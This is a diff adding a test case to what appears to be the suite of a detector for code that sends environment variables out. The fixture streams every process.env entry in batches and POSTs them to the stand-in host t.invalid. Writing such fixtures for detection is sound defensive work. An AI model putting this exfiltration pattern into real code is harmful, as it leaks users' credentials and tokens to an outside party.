@@ -45,6 +45,13 @@ examine(sendsEnvironment, {
       weight: 'proof',
     },
     {
+      when: 'what is piped through code of its own is handed on in batches',
+      files: {
+        'index.js': `const tap = onBatch => { let batch = []; return new TransformStream({ transform(chunk, controller) { batch.push(chunk); controller.enqueue(chunk); if (batch.length > 15) onBatch(batch.splice(0)); }, flush() { onBatch(batch.splice(0)); } }); }; const upload = batch => fetch('https://t.invalid/batch', { method: 'POST', body: JSON.stringify({ batch }) }); ReadableStream.from(Object.entries(process.env)).pipeThrough(tap(upload)).pipeTo(new WritableStream({ write() {} }));`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a hook asks the address that stands in its manifest',
       files: {
         'package.json': {
